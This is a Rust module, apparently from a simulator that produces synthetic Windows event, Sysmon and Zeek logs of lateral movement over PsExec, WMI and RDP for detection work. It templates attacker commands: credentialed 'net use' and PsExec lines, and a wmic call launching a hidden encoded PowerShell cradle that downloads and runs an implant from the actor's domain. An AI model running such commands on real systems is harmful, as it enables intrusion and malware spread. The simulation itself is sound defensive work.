//! Lateral movement with a stolen account from a foothold (the step's `source`) to
//! the target: PsExec over SMB (`net use` of `ADMIN$`, the implant copied over, the
//! `PSEXESVC` service, its `cmd.exe`), WMI (`wmic /node: process call create`, the
//! command under `WmiPrvSE.exe`) and RDP (`mstsc /v:`, the network then
//! remote-interactive logons, `rdpclip.exe`, `explorer.exe`). Each leaves the source's
//! records (Sysmon 1/3/13, Security 4648), the target's (Security 4624/4672/5140,
//! System 7045, Sysmon 1/11/17) and the connection between them in Zeek. The process
//! the intruder ends up with on the target becomes that host's foothold.

use rand::Rng;

use super::{
    Actor, Ctx, Env, Foothold, HOUR, MINUTE, MS, SEC, SYSTEM, SYSTEM_LOGON, Tls, actor,
    encoded_command, file_name, host_ip, host_name, host_os, logon_id, lookup, on_host, password,
    profile_dir, shell, start, system_proc, tls_out, zeek_conn,
};
use crate::emit::Stream;
use crate::net::Flow;
use crate::scenario::Os;
use crate::windows;
use crate::world::Proc;

/// The two ends of a movement and the account used.
struct Hop {
    source: usize,
    target: usize,
    source_ip: String,
    target_ip: String,
    source_name: String,
    account: String,
    password: String,
}

fn hop(ctx: &mut Ctx<'_>, env: &mut Env<'_>) -> Option<Hop> {
    let target = env.r.target;
    if host_os(ctx, target) != Os::Windows {
        return None;
    }
    // The source: the step's, else a host the intruder holds, else the user's desk.
    let source = env
        .r
        .source
        .or_else(|| env.state.footholds.keys().copied().find(|h| *h != target))
        .or_else(|| {
            env.r
                .user
                .and_then(|u| ctx.world.users.get(u))
                .map(|u| u.workstation)
        })?;
    let account = env
        .account(ctx)
        .unwrap_or_else(|| format!("{}\\Administrator", ctx.world.netbios));
    let password = password(ctx, env.state, &account);
    Some(Hop {
        source,
        target,
        source_ip: host_ip(ctx, source),
        target_ip: host_ip(ctx, target),
        source_name: host_name(ctx, source),
        account,
        password,
    })
}

/// The target's records of a network logon by the hop's account: 4624 (type 3, NTLM
/// since the source names the target by address) and 4672 for an administrator.
fn network_logon(ctx: &mut Ctx<'_>, h: &Hop, t: i64, logon_type: u8, auth: &str) -> String {
    let id = logon_id(ctx);
    on_host(ctx, h.target, t, Stream::Security, |host| {
        windows::logon(
            t,
            host,
            &h.account,
            logon_type,
            &h.source_ip,
            &h.source_name,
            &id,
            auth,
        )
    });
    on_host(ctx, h.target, t, Stream::Security, |host| {
        windows::special_privileges(t, host, &h.account, &id)
    });
    id
}

/// Security 4648 on the source: the process used the hop's credentials explicitly.
fn explicit(ctx: &mut Ctx<'_>, h: &Hop, a: &Actor, t: i64, p: &Proc) {
    on_host(ctx, h.source, t, Stream::Security, |host| {
        windows::explicit_logon(
            t,
            host,
            &a.account,
            &a.logon_id,
            &h.account,
            &h.target_ip,
            p,
            &h.target_ip,
        )
    });
}

/// The SMB session from the source's kernel (`System`) to the target's port 445.
fn smb_session(ctx: &mut Ctx<'_>, h: &Hop, t: i64, sent: u64, duration: f64) {
    let sport = ctx.ephemeral_port();
    if let Some(system) = ctx.world.hosts.get(h.source).map(|x| x.system.clone()) {
        on_host(ctx, h.source, t, Stream::Sysmon, |host| {
            windows::network_connect(
                t,
                host,
                &system,
                "tcp",
                (&h.source_ip, sport),
                (&h.target_ip, 445),
                "",
                true,
            )
        });
    }
    let flow = Flow {
        src: &h.source_ip,
        sport,
        dst: &h.target_ip,
        dport: 445,
        proto: "tcp",
        orig_bytes: sent,
        resp_bytes: 38_000 + sent / 40,
        state: "SF",
        duration,
    };
    zeek_conn(ctx, t, &flow);
}

/// The new implant's first check-ins from the target.
fn first_check_ins(ctx: &mut Ctx<'_>, env: &mut Env<'_>, host: usize, implant: &Proc, user: &str) {
    let domain = env.s.campaign.actor.domain.clone();
    let actor_ip = env.actor_ip().to_string();
    let t = env.later(ctx, 500, 3_000);
    lookup(ctx, host, t, Some(implant), &domain, &actor_ip);
    for _ in 0..env.number("check_ins", 3usize).min(50) {
        let t = env.later(ctx, 200, 1_000);
        let sent = ctx.rng.random_range(1_180..1_420u64);
        let received = ctx.rng.random_range(3_900..4_300u64);
        tls_out(
            ctx,
            t,
            &Tls {
                host,
                process: Some(implant),
                user,
                dst_ip: &actor_ip,
                name: &domain,
                user_agent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
                sent,
                received,
                duration: 0.6,
            },
        );
        env.later(ctx, 240_000, 360_000);
    }
}

/// The implant image to plant on the target: the source foothold's, renamed into the
/// target's `C:\Windows\Temp`.
fn implant_source(env: &Env<'_>, h: &Hop) -> String {
    match env.state.footholds.get(&h.source) {
        Some(f) => f.implant.image.clone(),
        None => format!("{}AppData\\Roaming\\msupdate.exe", profile_dir(&h.account)),
    }
}

pub(super) fn smb(ctx: &mut Ctx<'_>, env: &mut Env<'_>) {
    let Some(h) = hop(ctx, env) else {
        return;
    };
    let a = actor(ctx, env, h.source, false);
    let local_implant = implant_source(env, &h);
    let implant_name = file_name(&local_implant).to_string();
    let remote_implant = format!("C:\\Windows\\Temp\\{implant_name}");
    let begin = env.t;

    // Map ADMIN$ with the stolen account.
    let net_use = format!(
        "net use \\\\{}\\ADMIN$ {} /user:{}",
        h.target_ip, h.password, h.account
    );
    let (_, net) = shell(
        ctx,
        env,
        h.source,
        &a,
        "C:\\Windows\\System32\\net.exe",
        &net_use,
        &net_use,
    );
    let t = env.later(ctx, 10, 60);
    start(
        ctx,
        h.source,
        t,
        &net,
        &a.logon_id,
        "C:\\Windows\\System32\\net1.exe",
        &format!(
            "C:\\Windows\\system32\\net1 use \\\\{}\\ADMIN$ {} /user:{}",
            h.target_ip, h.password, h.account
        ),
        a.proc.integrity,
        &a.account,
        &a.proc.current_directory,
    );
    let t = env.later(ctx, 20, 80);
    explicit(ctx, &h, &a, t, &net);
    let t = env.later(ctx, 20, 120);
    smb_session(ctx, &h, t, 640_000, 95.0);
    let t = env.later(ctx, 20, 120);
    network_logon(ctx, &h, t, 3, "NTLM");
    let t = env.later(ctx, 5, 40);
    on_host(ctx, h.target, t, Stream::Security, |host| {
        windows::share_access(
            t,
            host,
            &h.account,
            &h.source_ip,
            "\\\\*\\ADMIN$",
            "\\??\\C:\\Windows",
        )
    });

    // Copy the implant over.
    env.later(ctx, 4_000, 20_000);
    let copy = format!(
        "copy /Y {local_implant} \\\\{}\\ADMIN$\\Temp\\{implant_name}",
        h.target_ip
    );
    shell(ctx, env, h.source, &a, "", &copy, &copy);
    let target_system = ctx
        .world
        .hosts
        .get(h.target)
        .map(|x| x.system.clone())
        .unwrap_or_else(|| super::orphan("System", "", SYSTEM));
    let t = env.later(ctx, 100, 900);
    on_host(ctx, h.target, t, Stream::Sysmon, |host| {
        windows::file_create(t, host, &target_system, &remote_implant)
    });

    // PsExec: the tool arrives over C2, accepts its EULA, installs PSEXESVC.
    env.later(ctx, 10_000, 60_000);
    let tool_path = env
        .param(
            "tool_path",
            &format!(
                "{}AppData\\Local\\Temp\\PsExec64.exe",
                profile_dir(&a.account)
            ),
        )
        .to_string();
    let t = env.t;
    let implant = a.proc.clone();
    on_host(ctx, h.source, t, Stream::Sysmon, |host| {
        windows::file_create(t, host, &implant, &tool_path)
    });
    env.later(ctx, 5_000, 20_000);
    let run = format!(
        "{tool_path} \\\\{} -accepteula -u {} -p {} -h -d cmd.exe /c {remote_implant}",
        h.target_ip, h.account, h.password
    );
    let (_, psexec) = shell(ctx, env, h.source, &a, &tool_path, &run, &run);
    let t = env.later(ctx, 20, 80);
    let eula = format!(
        "HKU\\{}\\Software\\Sysinternals\\PsExec\\EulaAccepted",
        super::sid(&ctx.world.netbios, &a.account)
    );
    on_host(ctx, h.source, t, Stream::Sysmon, |host| {
        windows::registry_set(t, host, &psexec, &eula, "DWORD (0x00000001)")
    });
    let t = env.later(ctx, 20, 80);
    explicit(ctx, &h, &a, t, &psexec);
    let t = env.later(ctx, 50, 300);
    network_logon(ctx, &h, t, 3, "NTLM");
    let t = env.later(ctx, 5, 40);
    on_host(ctx, h.target, t, Stream::Security, |host| {
        windows::share_access(
            t,
            host,
            &h.account,
            &h.source_ip,
            "\\\\*\\ADMIN$",
            "\\??\\C:\\Windows",
        )
    });
    let t = env.later(ctx, 20, 200);
    on_host(ctx, h.target, t, Stream::Sysmon, |host| {
        windows::file_create(t, host, &target_system, "C:\\Windows\\PSEXESVC.exe")
    });
    let t = env.later(ctx, 20, 200);
    on_host(ctx, h.target, t, Stream::Security, |host| {
        windows::share_access(t, host, &h.account, &h.source_ip, "\\\\*\\IPC$", "")
    });
    let services = ctx
        .world
        .hosts
        .get(h.target)
        .map(|x| x.services.clone())
        .unwrap_or_else(|| super::orphan("services.exe", "", SYSTEM));
    let t = env.later(ctx, 20, 200);
    on_host(ctx, h.target, t, Stream::Sysmon, |host| {
        windows::registry_set(
            t,
            host,
            &services,
            "HKLM\\System\\CurrentControlSet\\Services\\PSEXESVC\\ImagePath",
            "%%SystemRoot%%\\PSEXESVC.exe",
        )
    });
    let t = env.later(ctx, 5, 40);
    on_host(ctx, h.target, t, Stream::System, |host| {
        windows::service_installed(
            t,
            host,
            "PSEXESVC",
            "%SystemRoot%\\PSEXESVC.exe",
            "LocalSystem",
        )
    });
    let t = env.later(ctx, 50, 300);
    let svc = start(
        ctx,
        h.target,
        t,
        &services,
        SYSTEM_LOGON,
        "C:\\Windows\\PSEXESVC.exe",
        "C:\\Windows\\PSEXESVC.exe",
        "System",
        SYSTEM,
        "C:\\Windows\\system32\\",
    );
    let t = env.later(ctx, 20, 120);
    on_host(ctx, h.target, t, Stream::Sysmon, |host| {
        windows::pipe_created(t, host, &svc, "\\PSEXESVC")
    });
    for stream in ["stdin", "stdout", "stderr"] {
        let pipe = format!("\\PSEXESVC-{}-{}-{stream}", h.source_name, psexec.pid);
        let t = env.later(ctx, 5, 30);
        on_host(ctx, h.target, t, Stream::Sysmon, |host| {
            windows::pipe_created(t, host, &svc, &pipe)
        });
    }
    // PSEXESVC logs the account on and starts the command with its token.
    let t = env.later(ctx, 20, 120);
    let interactive = network_logon(ctx, &h, t, 2, "Negotiate");
    let profile = profile_dir(&h.account);
    let t = env.later(ctx, 50, 300);
    let cmd = start(
        ctx,
        h.target,
        t,
        &svc,
        &interactive,
        "C:\\Windows\\System32\\cmd.exe",
        &format!("\"cmd.exe\" /c {remote_implant}"),
        "High",
        &h.account,
        "C:\\Windows\\system32\\",
    );
    let t = env.later(ctx, 30, 200);
    let new_implant = start(
        ctx,
        h.target,
        t,
        &cmd,
        &interactive,
        &remote_implant,
        &remote_implant,
        "High",
        &h.account,
        &profile,
    );
    env.state.footholds.insert(
        h.target,
        Foothold {
            implant: new_implant.clone(),
            elevated: Some(new_implant.clone()),
            account: h.account.clone(),
            logon_id: interactive.clone(),
            elevated_logon_id: interactive,
        },
    );
    let user = windows::split_account(&h.account).1.to_string();
    first_check_ins(ctx, env, h.target, &new_implant, &user);
    env.t = env.t.max(begin + SEC);
}

pub(super) fn wmi(ctx: &mut Ctx<'_>, env: &mut Env<'_>) {
    let Some(h) = hop(ctx, env) else {
        return;
    };
    let a = actor(ctx, env, h.source, false);
    let domain = env.s.campaign.actor.domain.clone();
    let actor_ip = env.actor_ip().to_string();
    let implant_name = file_name(&implant_source(env, &h)).to_string();
    let remote_implant = format!("C:\\ProgramData\\{implant_name}");
    let script = format!(
        "(New-Object System.Net.WebClient).DownloadFile('https://{domain}/assets/{implant_name}','{remote_implant}');Start-Process '{remote_implant}'"
    );
    let remote_command = format!(
        "cmd.exe /c powershell -nop -w hidden -enc {}",
        encoded_command(&script)
    );
    let call = format!(
        "wmic /node:{} /user:{} /password:{} process call create \"{remote_command}\"",
        h.target_ip, h.account, h.password
    );
    let (_, wmic) = shell(
        ctx,
        env,
        h.source,
        &a,
        "C:\\Windows\\System32\\wbem\\WMIC.exe",
        &call,
        &call,
    );
    let t = env.later(ctx, 50, 300);
    explicit(ctx, &h, &a, t, &wmic);
    // DCOM: the endpoint mapper, then the dynamic port.
    for (port, sent, duration) in [(135u16, 1_600u64, 0.05), (49_668, 9_800, 1.4)] {
        let t = env.later(ctx, 10, 80);
        let sport = ctx.ephemeral_port();
        on_host(ctx, h.source, t, Stream::Sysmon, |host| {
            windows::network_connect(
                t,
                host,
                &wmic,
                "tcp",
                (&h.source_ip, sport),
                (&h.target_ip, port),
                "",
                true,
            )
        });
        let flow = Flow {
            src: &h.source_ip,
            sport,
            dst: &h.target_ip,
            dport: port,
            proto: "tcp",
            orig_bytes: sent,
            resp_bytes: sent / 2 + 700,
            state: "SF",
            duration,
        };
        zeek_conn(ctx, t, &flow);
    }
    let t = env.later(ctx, 20, 150);
    // The command WMI starts runs in the caller's network logon session.
    let logon = network_logon(ctx, &h, t, 3, "NTLM");
    let dcom = system_proc(ctx, env.state, h.target, "dcomlaunch");
    let t = env.later(ctx, 50, 400);
    let wmiprvse = start(
        ctx,
        h.target,
        t,
        &dcom,
        "0x3E4",
        "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe",
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
        "System",
        "NT AUTHORITY\\NETWORK SERVICE",
        "C:\\Windows\\system32\\",
    );
    let t = env.later(ctx, 100, 600);
    let cmd = start(
        ctx,
        h.target,
        t,
        &wmiprvse,
        &logon,
        "C:\\Windows\\System32\\cmd.exe",
        &remote_command,
        "High",
        &h.account,
        "C:\\Windows\\system32\\",
    );
    let t = env.later(ctx, 30, 200);
    let ps = start(
        ctx,
        h.target,
        t,
        &cmd,
        &logon,
        super::POWERSHELL,
        &remote_command.replacen("cmd.exe /c ", "", 1),
        "High",
        &h.account,
        "C:\\Windows\\system32\\",
    );
    let t = env.later(ctx, 600, 1_500);
    lookup(ctx, h.target, t, Some(&ps), &domain, &actor_ip);
    let t = env.later(ctx, 20, 100);
    let user = windows::split_account(&h.account).1.to_string();
    tls_out(
        ctx,
        t,
        &Tls {
            host: h.target,
            process: Some(&ps),
            user: &user,
            dst_ip: &actor_ip,
            name: &domain,
            user_agent: "-",
            sent: 1_100,
            received: 296_000,
            duration: 1.2,
        },
    );
    let t = env.later(ctx, 1_300, 2_000);
    on_host(ctx, h.target, t, Stream::Sysmon, |host| {
        windows::file_create(t, host, &ps, &remote_implant)
    });
    let t = env.later(ctx, 100, 500);
    let new_implant = start(
        ctx,
        h.target,
        t,
        &ps,
        &logon,
        &remote_implant,
        &format!("\"{remote_implant}\""),
        "High",
        &h.account,
        "C:\\Windows\\system32\\",
    );
    env.state.footholds.insert(
        h.target,
        Foothold {
            implant: new_implant.clone(),
            elevated: Some(new_implant.clone()),
            account: h.account.clone(),
            logon_id: logon.clone(),
            elevated_logon_id: logon,
        },
    );
    first_check_ins(ctx, env, h.target, &new_implant, &user);
}

pub(super) fn rdp(ctx: &mut Ctx<'_>, env: &mut Env<'_>) {
    let Some(h) = hop(ctx, env) else {
        return;
    };
    let a = actor(ctx, env, h.source, false);
    let t = env.later(ctx, 0, 2_000);
    let mstsc = start(
        ctx,
        h.source,
        t,
        &a.proc,
        &a.logon_id,
        "C:\\Windows\\System32\\mstsc.exe",
        &format!("\"C:\\Windows\\system32\\mstsc.exe\" /v:{}", h.target_ip),
        a.proc.integrity,
        &a.account,
        &a.proc.current_directory,
    );
    let length = env.duration("session", 35 * MINUTE).min(12 * HOUR);
    let t = env.later(ctx, 4_000, 20_000);
    let sport = ctx.ephemeral_port();
    on_host(ctx, h.source, t, Stream::Sysmon, |host| {
        windows::network_connect(
            t,
            host,
            &mstsc,
            "tcp",
            (&h.source_ip, sport),
            (&h.target_ip, 3389),
            "",
            true,
        )
    });
    let termservice = system_proc(ctx, env.state, h.target, "termservice");
    let source_name = h.source_name.clone();
    on_host(ctx, h.target, t + 2 * MS, Stream::Sysmon, |host| {
        windows::network_connect(
            t + 2 * MS,
            host,
            &termservice,
            "tcp",
            (&h.source_ip, sport),
            (&h.target_ip, 3389),
            &source_name,
            false,
        )
    });
    let flow = Flow {
        src: &h.source_ip,
        sport,
        dst: &h.target_ip,
        dport: 3389,
        proto: "tcp",
        orig_bytes: 1_400_000,
        resp_bytes: 38_000_000,
        state: "SF",
        duration: length as f64 / 1e9,
    };
    zeek_conn(ctx, t, &flow);
    // NLA authenticates first (network logon), then the session logs on.
    let t = env.later(ctx, 200, 900);
    network_logon(ctx, &h, t, 3, "NTLM");
    let t = env.later(ctx, 1_500, 4_000);
    let session = network_logon(ctx, &h, t, 10, "Negotiate");
    let winlogon = system_proc(ctx, env.state, h.target, "winlogon");
    let t = env.later(ctx, 800, 2_500);
    let userinit = start(
        ctx,
        h.target,
        t,
        &winlogon,
        &session,
        "C:\\Windows\\System32\\userinit.exe",
        "C:\\Windows\\system32\\userinit.exe",
        "High",
        &h.account,
        "C:\\Windows\\system32\\",
    );
    let t = env.later(ctx, 300, 1_500);
    let explorer = start(
        ctx,
        h.target,
        t,
        &userinit,
        &session,
        "C:\\Windows\\explorer.exe",
        "C:\\Windows\\Explorer.EXE",
        "High",
        &h.account,
        "C:\\Windows\\system32\\",
    );
    let t = env.later(ctx, 200, 1_500);
    start(
        ctx,
        h.target,
        t,
        &termservice,
        &session,
        "C:\\Windows\\System32\\rdpclip.exe",
        "rdpclip",
        "High",
        &h.account,
        "C:\\Windows\\system32\\",
    );
    let t = env.later(ctx, 20_000, 90_000);
    let shell_proc = start(
        ctx,
        h.target,
        t,
        &explorer,
        &session,
        "C:\\Windows\\System32\\cmd.exe",
        "\"C:\\Windows\\system32\\cmd.exe\" ",
        "High",
        &h.account,
        &profile_dir(&h.account),
    );
    env.state.footholds.insert(
        h.target,
        Foothold {
            implant: shell_proc.clone(),
            elevated: Some(shell_proc),
            account: h.account.clone(),
            logon_id: session.clone(),
            elevated_logon_id: session,
        },
    );
}
